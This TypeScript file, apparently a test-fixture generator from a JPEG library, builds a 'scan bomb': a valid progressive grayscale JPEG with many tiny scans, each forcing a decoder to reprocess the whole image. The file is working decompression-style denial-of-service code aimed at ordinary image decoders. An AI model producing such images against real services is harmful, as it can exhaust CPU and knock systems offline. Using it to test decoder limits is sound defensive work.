import { segment } from './jpeg';

/**
 * A valid progressive gray JPEG with any number of scans, of a few bytes each, which make the decoder process the whole image
 * again. The bits of all frequencies are refined one by one, repeatedly. @see https://www.w3.org/Graphics/JPEG/itu-t81.pdf,
 * annex G
 */
export function scanBomb(width: number, height: number, scans: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const frame = Buffer.from([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  const first = Buffer.concat([scan(0, 0, 0, 0), entropyCoded('0'.repeat(blocks % 8), Buffer.alloc(Math.floor(blocks / 8)))]);
  const empty = entropyCoded(emptyBlocks(blocks));
  const later = Array.from({ length: scans - 1 }, (_, index) => {
    const low = 13 - (index % 14);
    return Buffer.concat([scan(1, 63, low === 13 ? 0 : low + 1, low), empty]);
  });
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc2, frame),
    huffmanTable(0x00, [0]),
    huffmanTable(0x10, runs),
    first,
    ...later,
    Buffer.from([0xff, 0xd9]),
  ]);
}

/** Symbols for runs of at least 2 ** n empty blocks: the first has a code of one bit, each further one has one bit more. */
const runs = Array.from({ length: 15 }, (_, index) => (14 - index) << 4);

const huffmanTable = (id: number, symbols: number[]) =>
  segment(0xc4, Buffer.from([id, ...Array.from({ length: 16 }, (_, index) => (index < symbols.length ? 1 : 0)), ...symbols]));

const scan = (first: number, last: number, high: number, low: number) =>
  segment(0xda, Buffer.from([1, 1, 0, first, last, (high << 4) | low]));

function emptyBlocks(count: number): string {
  let bits = '';
  for (let left = count; left > 0; ) {
    const power = Math.min(14, Math.floor(Math.log2(left)));
    const run = Math.min(left, 2 ** (power + 1) - 1);
    bits += `${'1'.repeat(14 - power)}0${power > 0 ? (run - 2 ** power).toString(2).padStart(power, '0') : ''}`;
    left -= run;
  }
  return bits;
}

/** Encodes bits for a scan: padded with ones, and with a zero after each 0xff. */
function entropyCoded(bits: string, before = Buffer.alloc(0)): Buffer {
  const filled = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1');
  const bytes = (filled.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2));
  return Buffer.concat([before, Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])))]);
}
